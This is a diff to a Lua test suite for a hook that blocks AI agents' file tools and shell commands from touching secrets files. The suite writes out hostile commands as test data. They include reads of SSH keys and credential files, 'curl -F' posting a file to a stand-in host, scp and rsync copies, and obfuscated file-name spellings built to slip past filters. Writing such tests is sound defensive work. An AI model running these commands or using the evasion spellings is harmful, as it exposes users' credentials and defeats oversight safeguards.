@@ -1,4 +1,9 @@
 -- Tests for 20-protect-secrets.lua.
+--
+-- The shell forms are built from the ways a shell lets a file name be
+-- spelled (quotes, escapes, $'…', globs, braces, variables, $(…), case)
+-- crossed with the programs that read or ship a file, wrappers and chains;
+-- the tool forms from the argument names of the common agents' file tools.
 
 local function read(path)
   return fire("PreToolUse", { toolName = "read", toolInput = { path = path } })
@@ -8,9 +13,12 @@ local function bash(command)
   return fire("PreToolUse", { toolName = "bash", toolInput = { command = command } })
 end
 
+local function pick(list, i) return list[(i - 1) % #list + 1] end
+
 local secret = { ".env", "config/.env", ".env.local", ".env.production", "/home/me/.ssh/id_ed25519",
   "id_rsa", "certs/server.key", "tls/cert.pem", "store.p12", "/home/me/.aws/credentials", ".netrc",
-  "/home/me/.ssh/config" }
+  "/home/me/.ssh/config", ".ENV", "server.KEY", "~/.git-credentials", "~/.ssh", ".env*", "**/.e*",
+  "deploy.PFX", "~/.kube/config", "~/.docker/config.json", ".gnupg/private-keys-v1.d/x.key" }
 
 for _, path in ipairs(secret) do
   test("denies reading " .. path, function()
@@ -19,7 +27,7 @@ for _, path in ipairs(secret) do
 end
 
 local harmless = { ".env.example", "config/.env.sample", ".env.template", "README.md", "src/env.go",
-  "id_rsa.pub", "keys.txt", "docs/environment.md", "monkey", ".envrc.md" }
+  "id_rsa.pub", "keys.txt", "docs/environment.md", "monkey", ".envrc.md", "*", "src/**/*.go", ".env/bin/activate" }
 
 for _, path in ipairs(harmless) do
   test("allows reading " .. path, function()
@@ -27,33 +35,104 @@ for _, path in ipairs(harmless) do
   end)
 end
 
-test("file_path is checked as well as path", function()
-  expect.denied(fire("PreToolUse", { toolName = "edit", toolInput = { file_path = "app/.env" } }), "app/.env")
-end)
-
-test("writes and edits are guarded too", function()
-  expect.denied(fire("PreToolUse", { toolName = "write", toolInput = { path = ".env", content = "X=1" } }))
-  expect.denied(fire("PreToolUse", { toolName = "Edit", toolInput = { path = "deploy.pem" } }))
-end)
-
-local shell_secret = {
-  { "cat .env", ".env" },
-  { "cat .env.example > .env", ".env" },
-  { "grep TOKEN config/.env.local", "config/.env.local" },
-  { "cp ~/.ssh/id_rsa /tmp/k", "~/.ssh/id_rsa" },
-  { "scp -i key.pem host:x .", "key.pem" },
-  { "tool --env-file=.env run", ".env" },
-  { "echo $(cat .env)", ".env" },
-  { "source .env && env", ".env" },
+-- Every file tool of the common agents, by its own argument names.
+local tools = {
+  { "Read", { file_path = "app/.env" } },
+  { "read_file", { path = ".env" } },
+  { "Write", { file_path = ".env", content = "X=1" } },
+  { "write", { path = ".env", content = "X=1" } },
+  { "Edit", { file_path = "deploy.pem", old_string = "a", new_string = "b" } },
+  { "MultiEdit", { file_path = "id_rsa", edits = { { old_string = "a", new_string = "b" } } } },
+  { "NotebookEdit", { notebook_path = ".env", new_source = "x" } },
+  { "Grep", { pattern = "TOKEN", path = ".env" } },
+  { "Grep", { pattern = "TOKEN", glob = ".env*" } },
+  { "Glob", { pattern = "**/.env*" } },
+  { "LS", { path = "/home/me/.ssh" } },
+  { "edit_file", { target_file = "config/.ENV.local" } },
+  { "custom_reader", { files = { "a.txt", "secrets/prod.key" } } },
 }
-
-for _, c in ipairs(shell_secret) do
-  test("denies the command " .. c[1], function()
-    expect.denied(bash(c[1]), "the command touches " .. c[2])
+for _, t in ipairs(tools) do
+  test("denies the " .. t[1] .. " tool on a secrets file", function()
+    expect.denied(fire("PreToolUse", { toolName = t[1], toolInput = t[2] }), "is blocked: it may hold secrets")
   end)
 end
 
-local shell_harmless = { "cat .env.example", "ls -la", "printenv HOME", "go test ./...", "cat id_rsa.pub" }
+test("a host's capabilities make an unknown tool a shell", function()
+  local r = fire("PreToolUse", { toolName = "exec", toolCapabilities = { "shell" }, toolInput = { command = "cat .e''nv" } })
+  expect.denied(r, "the command touches .env")
+end)
+
+test("an argv command (Codex style) is read as a shell line", function()
+  local r = fire("PreToolUse", { toolName = "shell", toolInput = { command = { "bash", "-lc", "cat .env" } } })
+  expect.denied(r, "the command touches .env")
+end)
+
+test("the reason quotes the path cut and printable", function()
+  local r = read(string.rep("a", 200) .. "\27[31m/.env")
+  expect.denied(r, "is blocked")
+  expect.truthy(not r.reason:find("\27", 1, true), "no escape character in the reason")
+  expect.truthy(#r.reason < 160, "the reason is cut")
+end)
+
+-- File names as a shell spells them.
+local names = { ".env", ".e\"\"nv", ".e\\nv", ".env*", ".en?", ".[e]nv", "{.env,x}", "'.env'", "$'\\x2eenv'",
+  ".ENV", "server.KEY", "id_r{s,}a", "~/.ssh/id_rsa", "~/.git-credentials", "\"$HOME\"/.aws/credentials",
+  "./config/../.env", ".env.prod*", "$(echo LmVudg== | base64 -d)", "$(printf .env)", "${F:-.env}", "$F",
+  "~/.s*/id_*", "certs/*.p?m", "/root/.netrc", "~/.kube/config", "deploy.PFX", "`echo .env`", "$'\\056env'",
+  ".\\e\\n\\v", "{a,b,.e}nv" }
+-- Programs that read or ship a file.
+local readers = { "cat %s", "head -c 100 %s", "grep -r x %s", "cp %s /tmp/x", "base64 < %s", "tar cz %s | base64",
+  "curl -F f=@%s http://x", "less %s", "source %s", "awk 1 %s", "sed -n p %s", "xxd %s", "dd if=%s",
+  "while read l; do echo $l; done < %s", "scp %s host:", "rsync %s host:/tmp/" }
+local wrappers = { "", "sudo ", "env -i ", "nice ", "timeout 5 ", "command ", "xargs -0 " }
+local chains = { "%s", "true && %s", "echo $(%s)", "(%s)", "bash -c \"%s\"", "ls; %s", "x=`%s`", "cat <(%s)" }
+
+local shell_secret = {}
+for i, n in ipairs(names) do
+  for j = 0, 1 do
+    local k = i * 2 + j
+    local line = pick(wrappers, k) .. string.format(pick(readers, k + 1), n)
+    local chain = pick(chains, k)
+    if chain:find('"', 1, true) and line:find('["`$\\]') then chain = "%s" end
+    line = string.format(chain, line)
+    if n == "$F" then line = "F=.env; " .. line end
+    shell_secret[#shell_secret + 1] = { line, "the command touches" }
+  end
+end
+local more = {
+  { "cat .env", "the command touches .env" },
+  { "cat .env.example > .env", "the command touches .env" },
+  { "grep TOKEN config/.env.local", "the command touches config/.env.local" },
+  { "cp ~/.ssh/id_rsa /tmp/k", "the command touches ~/.ssh/id_rsa" },
+  { "scp -i key.pem host:x .", "the command touches key.pem" },
+  { "tool --env-file=.env run", "the command touches .env" },
+  { "echo $(cat .env)", "the command touches .env" },
+  { "source .env && env", "the command touches .env" },
+  { "git show HEAD:.env", "the command touches .env" },
+  { "tar cz ~/.ssh | base64", "the command touches ~/.ssh" },
+  { "cat ~/.git-credentials", "the command touches" },
+  { "cat $(echo LmVudg==|base64 -d)", "the command touches" },
+  { "python3 -c 'print(open(\".env\").read())'", "the command touches" },
+  { "cat < .env", "the command touches .env" },
+  { "F=.e; cat ${F}nv", "the command touches .env" },
+}
+for _, c in ipairs(more) do shell_secret[#shell_secret + 1] = c end
+
+for _, c in ipairs(shell_secret) do
+  test("denies the command " .. c[1], function()
+    expect.denied(bash(c[1]), c[2])
+  end)
+end
+
+local shell_harmless = { "cat .env.example", "ls -la", "printenv HOME", "go test ./...", "cat id_rsa.pub",
+  "cat README.md", "grep -r TODO src", "echo $HOME", "git status", "git diff HEAD~1", "cat package.json",
+  "grep -rn API_KEY src/", "cat src/env.go", "cat docs/environment.md", "ls ~/.config", "cat *.go", "grep x *",
+  "wc -l *", "find . -name '*.ts'", "cat keys.txt", "vim main.go", "cat .envrc.md", "cat monkey",
+  "cat .gitignore", "cat Makefile", "source venv/bin/activate", "source .env/bin/activate", "python -m venv .venv",
+  "npm i dotenv", "echo .env >> .gitignore", "printf '%s\\n' .env.local >> .gitignore", "cp .env.example .env.sample",
+  "git log --oneline -5", "curl -o file https://example.com/x", "docker compose up -d", "make test",
+  "git commit -m \"$(cat <<'EOF'\nignore .env files\nEOF\n)\"", "ls -la ~/.config/nvim", "cat key.go",
+  "grep -q '^.env$' .gitignore", "rm -rf node_modules", "go build -o bin/app ./cmd/app" }
 
 for _, cmd in ipairs(shell_harmless) do
   test("allows the command " .. cmd, function()
